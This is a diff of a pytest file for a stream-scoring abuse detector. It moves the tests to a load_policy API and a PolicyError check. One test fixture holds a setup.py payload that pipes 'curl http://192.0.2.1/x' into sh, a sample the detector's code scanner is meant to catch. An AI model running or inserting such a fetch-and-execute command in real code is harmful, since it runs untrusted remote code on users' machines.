@@ -7,6 +7,7 @@ from collections import Counter
 
 import pytest
 
+from detector.policy import PolicyError, load_policy
 from detector.stream import StreamScorer, score_lines
 from tests.stream.conftest import make_event
 
@@ -131,7 +132,7 @@ def test_policy_override_changes_decisions(tmp_path) -> None:
     path = tmp_path / "policy.toml"
     path.write_text("[stream]\nreview_threshold = 0.05\n")
     event = make_event(1, "2025-01-01T00:00:00Z", username="xkqzvbtrpl")
-    strict = StreamScorer(str(path)).process(event)[0]
+    strict = StreamScorer(load_policy(path)).process(event)[0]
     default = StreamScorer().process(event)[0]
     assert default["decision"] == "allow" and strict["decision"] == "review"
     assert strict["score"] == default["score"]
@@ -143,7 +144,7 @@ def test_scan_code_policy(tmp_path, mode: str, fresh_scanned: bool, old_scanned:
     path = tmp_path / "policy.toml"
     path.write_text(f'[stream]\nscan_code = "{mode}"\n')
     payload = {"setup.py": 'import os\nos.system("curl http://192.0.2.1/x | sh")\n'}
-    scorer = StreamScorer(str(path))
+    scorer = StreamScorer(load_policy(path))
     scorer.process(make_event(0, "2025-01-01T00:00:00Z", username="fresh"))
     fresh = scorer.process(make_event(1, "2025-01-01T01:00:00Z", kind="project.created",
                                       username="fresh",
@@ -158,5 +159,5 @@ def test_scan_code_policy(tmp_path, mode: str, fresh_scanned: bool, old_scanned:
 def test_bad_scan_code_value_is_rejected(tmp_path) -> None:
     path = tmp_path / "policy.toml"
     path.write_text('[stream]\nscan_code = "sometimes"\n')
-    with pytest.raises(ValueError, match="scan_code"):
-        StreamScorer(str(path))
+    with pytest.raises(PolicyError, match=r"stream\.scan_code"):
+        load_policy(path)
